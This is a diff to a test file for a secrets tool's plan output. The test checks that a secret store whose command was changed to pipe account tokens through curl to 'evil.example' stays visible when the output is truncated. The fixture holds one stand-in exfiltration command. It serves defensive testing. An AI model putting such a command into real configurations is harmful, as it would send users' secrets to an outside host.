@@ -124,7 +124,8 @@ it('a command is not cut by other stores, and where not all fit, the first lines
   const stage = await Stage.applied(configuration(TWO));
   const pad = (count: number, length: number) => {
     const names = Array.from({ length: count }, (_, n) => `pad${n}`);
-    const command = (name: string) => `[${name}, "{account}/{token}", ${'x'.repeat(length)}]`;
+    const command = (name: string) =>
+      `[${name}, "{account}/{token}", ${'x'.repeat(length)}], check: [check, ${'y'.repeat(length)}]`;
     const stores = names.map((name) => `  ${name}: { kind: exec, command: ${command(name)} }`).join('\n');
     const accounts = names.map(
       (name) => `  ${name}: { tokens: { a: { policy: p, secret_store: ${name} } }, smoke: false }`,
@@ -136,17 +137,19 @@ it('a command is not cut by other stores, and where not all fit, the first lines
     before
       .replace(TWO, `${stores}\n${TWO.replace('vault, put', 'curl, "https://evil.example"')}`)
       .replace('guardrails:', `${accounts}\nguardrails:`);
-  stage.edit(() => add(pad(30, 1000)));
+  stage.edit(() => add(pad(20, 1000)));
   const { stdout } = await stage.run('plan --sandbox --format markdown');
   expect(stdout.split('\n').find((line) => line.startsWith('🔑'))).toMatch(/vault: .*evil\.example/);
-  expect(stdout.match(/x{1000}`/g)).toHaveLength(30);
+  expect(stdout.match(/x{1000}`/g)).toHaveLength(20);
   expect(stdout).not.toContain('not shown as a whole');
   stage.edit(() => add(pad(190, 450)));
   const many = (await stage.run('plan --sandbox --format markdown')).stdout;
   expect(many.length).toBeLessThanOrEqual(65_000);
   expect(many).toContain('evil.example');
+  // Each store is named, with the beginning of its command.
+  expect(many.match(/^🔑 .*`(pad\d+|curl) /gm)).toHaveLength(191);
   expect(many.split('\n').slice(0, 7).join('\n')).toMatch(
-    /\*\*1\d\d new or changed destinations of secrets, not shown as a whole here/,
+    /\*\*\d\d\d new or changed destinations of secrets, not shown as a whole here/,
   );
 });
 
